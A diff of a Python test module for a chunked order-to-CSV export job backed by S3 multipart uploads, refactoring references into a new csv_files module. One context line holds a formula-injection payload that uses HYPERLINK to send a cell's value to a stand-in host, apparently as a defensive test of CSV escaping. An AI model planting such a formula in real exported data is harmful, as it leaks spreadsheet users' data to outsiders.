@@ -17,6 +17,7 @@ from chalicelib.adapters import clock
 from chalicelib.adapters.aws import client as aws_client
 from chalicelib.config import settings
 from chalicelib.models.jobs import Job
+from chalicelib.services.jobs import csv_files
 from chalicelib.services.jobs import framework as jobs
 from chalicelib.services.jobs.framework import ChunkBudget
 from chalicelib.services.orders import export as order_export
@@ -36,7 +37,7 @@ TRAP = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez")'
 @pytest.fixture
 def small_parts(monkeypatch):
     """Parts of 1 KiB (moto's minimum in this run) and two parts per chunk."""
-    monkeypatch.setattr(order_export, "PART_SIZE", S3_PART_MIN_SIZE)
+    monkeypatch.setattr(csv_files, "PART_SIZE", S3_PART_MIN_SIZE)
     jobs.kind_named(order_export.EXPORT_CSV)
     monkeypatch.setitem(jobs.KINDS, order_export.EXPORT_CSV,
                         replace(jobs.KINDS[order_export.EXPORT_CSV], max_items=2))
@@ -56,7 +57,7 @@ def place(actor, world, count: int, **buyer) -> list:
 
 
 def object_key(tenant_id: str, job: dict) -> str:
-    return order_export.object_key(tenant_id, job["id"], job["params"]["file_name"])
+    return csv_files.object_key(tenant_id, job["id"], job["params"]["file_name"])
 
 
 def fetch(client, headers, job_id: str) -> tuple[dict, bytes, dict]:
@@ -99,7 +100,7 @@ def test_export_of_every_matching_order_in_several_parts_and_chunks(client, staf
 
     running = run_until(pump, actor.tenant_id, job["id"], lambda current: current.status == "running")
     assert_problem(call(client, "GET", f"/jobs/{job['id']}/download", staff_headers), 409)
-    assert len(running.cursor["etags"]) == 2 * order_export.ETAG_CHARS  # two parts per chunk, ETags compact
+    assert len(running.cursor["etags"]) == 2 * csv_files.ETAG_CHARS  # two parts per chunk, ETags compact
 
     finished = drive(pump, actor.tenant_id, job["id"])
     assert finished.status == "succeeded", finished.last_error
@@ -187,7 +188,7 @@ def _uncounted_run(actor, job: Job) -> None:
     """What a duplicate delivery of the job's current chunk does while the counted one runs:
     the kind runs from the same cursor, and its outcome is never recorded."""
     budget = ChunkBudget(job_id=job.id, seq=int(job.chunk_seq), max_items=2, seconds=60)
-    order_export.export_csv(actor, dict(job.params), job.cursor, budget)
+    jobs.kind_named(order_export.EXPORT_CSV).run_chunk(actor, dict(job.params), job.cursor, budget)
 
 
 def test_duplicate_chunk_runs_do_not_duplicate_rows(client, staff_headers, actor, pump, small_parts):
@@ -228,7 +229,7 @@ def test_a_part_rewritten_with_other_rows_fails_the_export_instead_of_mixing(cli
 
     finished = drive(pump, actor.tenant_id, job.id)
     assert finished.status == "failed" and "start the export again" in finished.last_error
-    assert open_uploads(order_export.object_key(actor.tenant_id, job.id, job.params["file_name"])) == []
+    assert open_uploads(csv_files.object_key(actor.tenant_id, job.id, job.params["file_name"])) == []
     assert_problem(call(client, "GET", f"/jobs/{job.id}/download", staff_headers), 409)
 
 
@@ -237,7 +238,7 @@ def test_a_cancelled_export_aborts_its_upload(client, staff_headers, actor, pump
     place(actor, world, 40)
     _, started, _ = call(client, "POST", "/orders/export", staff_headers, {"filters": {"product_id": world.show.id}})
     job = run_until(pump, actor.tenant_id, started["id"], lambda current: current.status == "running")
-    key = order_export.object_key(actor.tenant_id, job.id, job.params["file_name"])
+    key = csv_files.object_key(actor.tenant_id, job.id, job.params["file_name"])
     assert [upload["UploadId"] for upload in open_uploads(key)] == [job.cursor["upload_id"]]
 
     status, cancelled, _ = call(client, "POST", f"/jobs/{job.id}/cancel", staff_headers, {"reason": "wrong filters"})
@@ -252,7 +253,7 @@ def test_an_expired_export_answers_gone(client, staff_headers, actor, pump):
     chosen = place(actor, world, 1)
     _, job, _ = call(client, "POST", "/orders/export", staff_headers, {"order_ids": [chosen[0].id]})
     finished = drive(pump, actor.tenant_id, job["id"])
-    clock.set_clock(clock.frozen_at(finished.finished_at + order_export.RETENTION))
+    clock.set_clock(clock.frozen_at(finished.finished_at + csv_files.RETENTION))
     try:
         assert_problem(call(client, "GET", f"/jobs/{job['id']}/download", staff_headers), 410)
     finally:
@@ -307,9 +308,9 @@ def test_a_pending_start_rewritten_with_other_rows_fails_the_export(client, staf
     chosen = place(actor, world, 3)
     _, started, _ = call(client, "POST", "/orders/export", staff_headers, {"order_ids": [o.id for o in chosen]})
     job = run_until(pump, actor.tenant_id, started["id"], lambda current: current.status == "running")
-    key = order_export.object_key(actor.tenant_id, job.id, job.params["file_name"])
+    key = csv_files.object_key(actor.tenant_id, job.id, job.params["file_name"])
     seq = job.cursor["pending"][0]
-    storage.put_object(settings.exports_bucket, order_export.pending_key(key, seq), b"other rows\r\n")
+    storage.put_object(settings.exports_bucket, csv_files.pending_key(key, seq), b"other rows\r\n")
 
     finished = drive(pump, actor.tenant_id, job.id)
     assert finished.status == "failed" and "start the export again" in finished.last_error
